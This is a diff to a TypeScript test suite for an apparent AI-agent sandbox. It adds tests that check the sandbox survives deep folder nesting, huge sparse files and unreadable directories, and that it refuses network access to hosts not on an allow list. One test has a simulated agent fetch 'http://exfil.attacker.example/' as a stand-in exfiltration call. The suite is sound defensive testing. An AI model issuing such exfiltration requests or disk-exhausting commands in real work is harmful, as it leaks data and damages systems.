@@ -1,3 +1,5 @@
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
 import { mkdtempSync, readdirSync, readFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
@@ -52,7 +54,7 @@ function working(script: Readonly<Record<string, readonly Act[]>>) {
 }
 
 /** Runs a line of shell as the agent's process. */
-async function shell({ workplace }: ProviderRequest, line: string): Promise<string> {
+async function shell({ workplace }: ProviderRequest, line: string, hosts: readonly string[] = []): Promise<string> {
   let output = "";
   await workplace?.run({
     command: ["sh", "-c", line],
@@ -60,7 +62,7 @@ async function shell({ workplace }: ProviderRequest, line: string): Promise<stri
     input: "",
     programs: [],
     home: mkdtempSync(join(tmpdir(), "slipway-agent-home-")),
-    hosts: [],
+    hosts,
     timeoutMs: 20_000,
     signal: new AbortController().signal,
     onStdout: (chunk) => (output += Buffer.from(chunk).toString("utf8")),
@@ -155,6 +157,56 @@ describe.runIf(sandboxWorksHere())("an agent that works in a folder", () => {
       dropped: [],
     });
     expect(transcript).toContain("+two");
+  });
+
+  test("folders below the longest path, closed ones and sparse files stop neither this feature nor the repository", async () => {
+    const deep = 'for (let n = 0; n < 300; n++) { fs.mkdirSync("d".repeat(60)); process.chdir("d".repeat(60)); }';
+    const lines = [
+      "echo two > src/a.txt",
+      "cd src",
+      `node -e '${deep}'`,
+      "truncate -s 1900M sparse1 sparse2",
+      "mkdir -p closed/inner && echo x > closed/inner/file && chmod 000 closed/inner/file closed/inner closed",
+      "echo left",
+    ];
+    const left: string[] = [];
+    const builder: Act = async (request) => (left.push(await shell(request, lines.join("\n"))), PATCH);
+    const { dispatcher } = working({ planner: [plans], builder: [builder], qa: [notes] });
+    services = await openWorkshop({}, { dispatcher, sandbox });
+    const runId = await services!.start();
+    await services!.drive(runId);
+    expect(left).toEqual(["left\n"]);
+    expect(services!.read(".worktrees/letters/src/a.txt")).toBe("two\n");
+    const [question] = await services!.open();
+    await services!.approve(question!);
+    expect(resultOf(await services!.drive(runId))?.status).toBe("merged");
+    await vi.waitFor(() => expect(readdirSync(services!.kernel.repository.ungated.packs).toSorted()).toEqual([".swept", "blobs"]));
+  });
+
+  test("what left is kept with the transcript, and other hosts are refused", async () => {
+    const server = createServer((_, response) => response.end("the model"));
+    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+    const host = `127.0.0.1:${(server.address() as AddressInfo).port}`;
+    const ask = (url: string) => `await fetch("${url}").then((answer) => answer.text(), () => null);`;
+    const script = `(async () => { ${ask(`http://${host}/?secret`)} ${ask("http://exfil.attacker.example/")} })()`;
+    const builder: Act = async (request) => {
+      await shell(request, `echo two > src/a.txt; node -e '${script}'`, [host]);
+      return PATCH;
+    };
+    const { dispatcher } = working({ planner: [plans], builder: [builder], qa: [notes] });
+    services = await openWorkshop({}, { dispatcher, sandbox });
+    await services!.drive(await services!.start());
+    server.close();
+    const { records } = services!.kernel;
+    const row = (await telemetryOf(records.database.db, { feature_id: "letters" })).find(({ role }) => role === "builder");
+    const transcript = Buffer.from(await records.objects.get(row?.transcript_digest ?? "")).toString();
+    const line = transcript.split("\n").find((text) => text.includes("egress")) ?? "{}";
+    expect(JSON.parse(JSON.parse(line).line)).toMatchObject({
+      egress: [
+        { host, connections: 1, refused: [] },
+        { host: "exfil.attacker.example:80", connections: 0, bytes_out: 0, refused: ["the host is not one that the command may reach"] },
+      ],
+    });
   });
 });
 
